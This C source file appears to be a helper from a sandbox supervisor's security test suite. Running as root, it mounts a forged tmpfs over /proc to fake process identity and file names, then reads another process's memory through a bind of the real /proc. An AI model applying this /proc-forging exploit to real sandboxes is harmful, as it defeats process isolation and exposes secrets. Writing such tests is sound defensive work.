/* rev37-fake-proc.c - a program run by execve under a hardened program's
 * filter (not our process), as root, in the supervisor's own mount
 * namespace: it binds a tmpfs of its making over /proc, where the
 * supervisor reads who a caller is (/proc/<tid>/status), whether a process
 * is ours (/proc/<pid>/stat) and an open file's name (/proc/self/fd/<n>),
 * and asks for main's memory file through a bind of the real /proc.
 *
 * rev37-fake-proc PID ADDR: 31 bytes of PID's memory at ADDR (hex). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "helper-steps.h"

static int slurp(const char *path, char *buf, size_t cap) {
  int fd = open(path, O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, cap - 1);
  if (fd >= 0)
    close(fd);
  buf[n > 0 ? n : 0] = 0;
  return n > 0;
}

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  int ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
  if (fd >= 0)
    close(fd);
  return ok;
}

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *main_pid = argv[1];
  off_t at = (off_t)strtoull(argv[2], NULL, 16);
  char rp[4200], fake[4200], p[4400], q[4400], status[16384], stat[4096];
  char buf[32] = {0};
  int me = getpid();
  snprintf(rp, sizeof rp, "%s.rp", argv[0]);
  snprintf(fake, sizeof fake, "%s.fake", argv[0]);
  /* The control: main's memory file, asked for plainly. */
  snprintf(p, sizeof p, "/proc/%s/mem", main_pid);
  int fd = open(p, O_RDONLY);
  printf("helper: plain open of /proc/<main>/mem: %s\n",
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0)
    close(fd);
  /* What the supervisor will read: this task's status with main's
   * process id as its Tgid, its root, main's stat that is not ours (this
   * program's own), and every descriptor of the supervisor's named
   * /proc/<main>/mem (the true name of the file it will open). */
  if (!step(slurp("/proc/self/status", status, sizeof status), "status") ||
      !step(slurp("/proc/self/stat", stat, sizeof stat), "stat") ||
      !step(!mkdir(rp, 0700) && !mkdir(fake, 0700), "mkdir") ||
      !step(!mount("/proc", rp, NULL, MS_BIND | MS_REC, NULL), "bind /proc") ||
      !step(!mount("none", fake, "tmpfs", 0, "mode=0755"), "mount tmpfs"))
    return 1;
  char *t = strstr(status, "\nTgid:"), *e = t ? strchr(t + 1, '\n') : NULL;
  if (!t || !e)
    return 1;
  char forged[16384];
  snprintf(forged, sizeof forged, "%.*s\nTgid:\t%s%s", (int)(t - status),
           status, main_pid, e);
  snprintf(p, sizeof p, "%s/%d", fake, me);
  mkdir(p, 0755);
  snprintf(q, sizeof q, "%s/status", p);
  step(put(q, forged), "fake status");
  snprintf(q, sizeof q, "%s/root", p);
  step(!symlink("/", q), "fake root");
  snprintf(p, sizeof p, "%s/%s", fake, main_pid);
  mkdir(p, 0755);
  snprintf(q, sizeof q, "%s/stat", p);
  step(put(q, stat), "fake stat");
  snprintf(p, sizeof p, "%s/self", fake);
  mkdir(p, 0755);
  snprintf(p, sizeof p, "%s/self/fd", fake);
  mkdir(p, 0755);
  char name[64];
  snprintf(name, sizeof name, "/proc/%s/mem", main_pid);
  for (int n = 0; n < 256; n++) {
    snprintf(q, sizeof q, "%s/self/fd/%d", fake, n);
    if (symlink(name, q))
      break;
  }
  if (!step(!mount(fake, "/proc", NULL, MS_BIND, NULL), "bind over /proc"))
    return 1;
  /* The supervisor opens main's memory file through the real /proc's
   * bind, and judges it with what the tmpfs says. */
  snprintf(p, sizeof p, "%s/%s/mem", rp, main_pid);
  fd = open(p, O_RDONLY);
  printf("helper: open through the bind, /proc faked: %s\n",
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0 && pread(fd, buf, 31, at) <= 0)
    buf[0] = 0;
  if (fd >= 0)
    close(fd);
  /* Tidy: the guest's (or host's) /proc back. */
  step(!umount2("/proc", MNT_DETACH), "umount /proc");
  umount2(fake, MNT_DETACH);
  umount2(rp, MNT_DETACH);
  rmdir(fake);
  rmdir(rp);
  if (!strncmp(buf, "TOP-SECRET", 10))
    printf("ATTACK SUCCEEDED: the supervisor judged main's memory file with "
           "a /proc of the caller's making: '%s'\n",
           buf);
  else
    printf("helper: nothing read ('%s')\n", buf);
  return 0;
}
